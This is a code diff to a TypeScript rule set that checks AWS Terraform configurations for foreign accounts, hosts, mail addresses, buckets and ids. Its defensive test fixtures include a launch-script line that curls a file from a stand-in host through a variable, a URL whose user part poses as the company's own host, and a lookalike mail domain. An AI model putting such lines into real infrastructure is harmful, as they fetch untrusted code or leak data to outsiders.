@@ -9,13 +9,16 @@ import type { Text } from './texts';
 
 const account = /(?<![0-9A-Za-z])\d{12}(?![0-9A-Za-z])/g;
 const mail = /(?<![\w.+%-])[\w.+%-]+@(?:[a-z0-9-]+\.)+[a-z]{2,}/gi;
-/** Ids that AWS makes up: of networks, machines, images, disks, directories and organizations. */
+/** Ids that AWS generates: of networks, machines, images, disks, directories and organizations. */
 const idOfResource =
   /(?<![\w-])(?:vpc|sgr?|subnet|ami|a[kr]i|pl|eni|i|rtb|e?igw|nat|tgw(?:-attach|-rtb)?|pcx|vpce(?:-svc)?|eipalloc|snap|vol|lt|acl|dopt|[cv]gw|vpn|fs(?:ap)?|dx(?:con|vif)|lgw|cr|d|r|o|ou)-[0-9a-z]{4,17}(?:-[0-9a-z]{8})?(?![\w-])/g;
-/** The same of Route 53, CloudFront and reusable delegation sets: one letter, and capitals and digits. */
+/** The ids of Route 53, CloudFront and reusable delegation sets: one letter, then capitals and digits. */
 const idOfName = /^\/?(?:hostedzone\/|delegationset\/)?[ZEN](?=[A-Z0-9]*\d)[A-Z0-9]{9,31}$/;
 const uuid = /^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/;
-/** Policies of CloudFront for everyone (CloudFront developer guide, "Use managed cache policies" and "... response headers policies"). */
+/**
+ * Public policies of CloudFront (CloudFront developer guide, "Use managed cache policies" and "... response headers
+ * policies").
+ */
 const managedPolicies = new Set([
   '658327ea-f89d-4fab-a63d-7e88639e58f6',
   'b2884449-e4de-46a7-ac36-70bc7f1ddd6d',
@@ -26,14 +29,14 @@ const managedPolicies = new Set([
 ]);
 
 function foreignId({ value, at }: Text, { environment }: World): string | undefined {
-  // What a person writes about an id leads nowhere.
+  // An id in a text for people has no effect.
   if (value.length < 9 || /(description|comment)$/.test(at)) return undefined;
   if (idOfName.test(value) || (uuid.test(value) && !managedPolicies.has(value)))
-    return `is ${value}, which no app makes`;
+    return `is ${value}, which no app creates`;
   return firstOf(value, idOfResource, (id = '') => {
-    // All of AWS's have digits; a word of a name need not.
+    // All ids of AWS contain digits; a word in a name need not.
     if (!/-.*\d/.test(id) || !/^[a-z-]+-[0-9a-z-]{8,}$/.test(id) || isOwnImage(id, environment)) return undefined;
-    return `names ${id}, which no app makes`;
+    return `names ${id}, which no app creates`;
   });
 }
 
@@ -43,18 +46,18 @@ const onTopic = (address: string) => ({
   change: (config: { insufficient_data_actions: string[] }) => (config.insufficient_data_actions = [address]),
 });
 
-/** What is not the environment's own, in any value of any type. */
+/** Values outside the environment, in any attribute of any type. */
 export const foreign = rulesOf([], {
   MAL_OWN_1: {
     title: 'Values name no other AWS account',
     severity: 'critical',
-    why: 'What is sent, lent or opened to an account that is not ours is lost: a topic, a bucket, a network, a copy',
-    fix: 'Use what the environment makes, by reference; account ids stand in environments/src/accounts.ts only',
+    why: 'Data that is sent, lent or opened to a foreign account is lost: a topic, a bucket, a network, a copy',
+    fix: 'Refer to resources of the environment; account ids are in environments/src/accounts.ts only',
     ask: noText(
       ({ value }, { environment }) =>
         firstOf(value, account, (id = '') => (isOwnAccount(id, environment) ? undefined : `names the account ${id}`)),
       {
-        'an alarm that lacks data notifies a topic of another account': onTopic('arn:aws:sns:eu-west-1:999999999999:x'),
+        'an alarm without data notifies a topic of another account': onTopic('arn:aws:sns:eu-west-1:999999999999:x'),
         'a function has a layer of another account': {
           type: 'aws_lambda_function',
           change: (config) => (config.layers = ['arn:aws:lambda:eu-west-1:999999999999:layer:x:1']),
@@ -71,17 +74,17 @@ export const foreign = rulesOf([], {
     ),
   },
   MAL_OWN_2: {
-    title: 'Values name no foreign host, and fetch by HTTPS only',
+    title: 'Values name no foreign host, and download over HTTPS only',
     severity: 'critical',
-    why: 'Visitors, alarms or programs go to, or come from, a host that another party answers for',
+    why: 'Visitors, alarms or programs go to, or come from, a host that another party controls',
     fix: 'Use a name in a zone of the account, or the address of an AWS service in the region; put programs into a bucket',
     ask: noText((text, { environment }) => foreignHost(text, environment), {
-      'an alarm that lacks data calls a foreign address': onTopic('https://alarms.example.com/hook'),
+      'an alarm without data calls a foreign address': onTopic('https://alarms.example.com/hook'),
       'an object of a bucket redirects to a foreign host': {
         type: 'aws_s3_object',
         change: (config) => (config.website_redirect = 'https://example.com/'),
       },
-      'a function asks a foreign database': {
+      'a function connects to a foreign database': {
         type: 'aws_lambda_function',
         change: (config) => (config.environment.variables.DATABASE_HOST = 'database.example.com'),
       },
@@ -90,12 +93,12 @@ export const foreign = rulesOf([], {
         path: 'load-balancer/http',
         change: (config) => (config.default_action[0].redirect.host = 'example.com'),
       },
-      'a script asks a foreign host by a variable': {
+      'a script connects to a foreign host by a variable': {
         type: 'aws_launch_template',
         path: 'web/template/Resource',
         change: booting('H=get.example.com; curl https://$H/x > x'),
       },
-      'user in front of an own name hides a foreign host': {
+      'a user name that looks like an allowed host hides a foreign host': {
         type: 'aws_lambda_function',
         change: (config) => (config.environment.variables.X = 'https://malinshopper.com@example.com/'),
       },
@@ -104,7 +107,7 @@ export const foreign = rulesOf([], {
   MAL_OWN_3: {
     title: 'Values name no foreign mail address',
     severity: 'high',
-    why: 'Alarms and costs say how the platform is built and what is broken',
+    why: 'Alarms and costs describe the architecture of the platform and its faults',
     fix: 'Use an address of malinshopper.com',
     ask: noText(
       ({ value }) => firstOf(value, mail, (address = '') => (isOwnMail(address) ? undefined : `names ${address}`), '@'),
@@ -113,7 +116,7 @@ export const foreign = rulesOf([], {
           type: 'aws_budgets_budget',
           change: (config) => (config.notification[0].subscriber_email_addresses = ['cost@example.com']),
         },
-        'a subscription sends to an address that ends like an own one': {
+        "a subscription sends to an address that only ends like the company's": {
           type: 'aws_sns_topic_subscription',
           change: (config) => (config.endpoint = 'compute@evilmalinshopper.com'),
         },
@@ -121,10 +124,10 @@ export const foreign = rulesOf([], {
     ),
   },
   MAL_OWN_4: {
-    title: 'Values name no bucket that is not of this repository',
+    title: 'Values name only buckets of this repository',
     severity: 'critical',
-    why: 'Any account can take a name of a bucket that is free, and then gets the logs or gives out the programs',
-    fix: 'Use the bucket by reference; buckets of partners stand in partnerBuckets of environments/src/accounts.ts',
+    why: 'Any account can create a bucket with a free name, and then receives the logs or distributes the programs',
+    fix: 'Use the bucket by reference; list buckets of partners in partnerBuckets of environments/src/accounts.ts',
     ask: noText(
       (text, { environment }) => {
         const bucket = foreignBucket(text, environment);
@@ -140,12 +143,12 @@ export const foreign = rulesOf([], {
           change: (config) =>
             (config.content = config.content.replace('"s3BucketName":""', '"s3BucketName":"sessions-of-another"')),
         },
-        'a cluster runs a program of a foreign bucket': {
+        'a cluster runs a program from a foreign bucket': {
           scenario: 'cluster',
           type: 'aws_emr_cluster',
           change: (config) => config.bootstrap_action.push({ name: 'more', path: 's3://programs-of-another/x.sh' }),
         },
-        'instances may read a bucket that is named like one of AWS': {
+        'instances may read a bucket with a name like one of AWS': {
           type: 'aws_vpc_endpoint',
           change: (config) =>
             (config.policy = config.policy.replace('s3:::aws-ssm-eu-west-1', 's3:::aws-ssm-of-another')),
@@ -154,28 +157,28 @@ export const foreign = rulesOf([], {
     ),
   },
   MAL_OWN_5: {
-    title: 'Values name no id that AWS made up for something that no app makes',
+    title: 'Values name no id that AWS generated for a resource outside this repository',
     severity: 'high',
-    why: 'A network, a group, a zone or an image by its id can be one of a stranger, and no rule can look at it',
-    fix: 'Use the resource by reference; images stand in environments/src/images.ts',
+    why: 'A network, a group, a zone or an image by its id can be foreign, and no rule can inspect it',
+    fix: 'Use the resource by reference; images are listed in environments/src/images.ts',
     ask: noText((text, world) => foreignId(text, world), {
       'instances boot an image that is not pinned': {
         type: 'aws_launch_template',
         change: (config) => (config.image_id = 'ami-0fffffffffffffff0'),
       },
-      'the database lets in a group by its id': {
+      'the database allows a group by its id': {
         type: 'aws_db_instance',
         change: (config) => config.vpc_security_group_ids.push('sg-0123456789abcdef0'),
       },
-      'a route leads to a peering by its id': {
+      'a route uses a peering by its id': {
         type: 'aws_route',
         change: (config) => (config.vpc_peering_connection_id = 'pcx-0123456789abcdef0'),
       },
-      'a zone has name servers of a set by its id': {
+      'a zone has name servers of a delegation set by its id': {
         type: 'aws_route53_zone',
         change: (config) => (config.delegation_set_id = 'N0123456789ABCDEFGHIJ'),
       },
-      'a distribution caches by a policy by its id': {
+      'a distribution uses a cache policy by its id': {
         type: 'aws_cloudfront_distribution',
         change: (config) => (config.default_cache_behavior.cache_policy_id = '11111111-1111-1111-1111-111111111111'),
       },
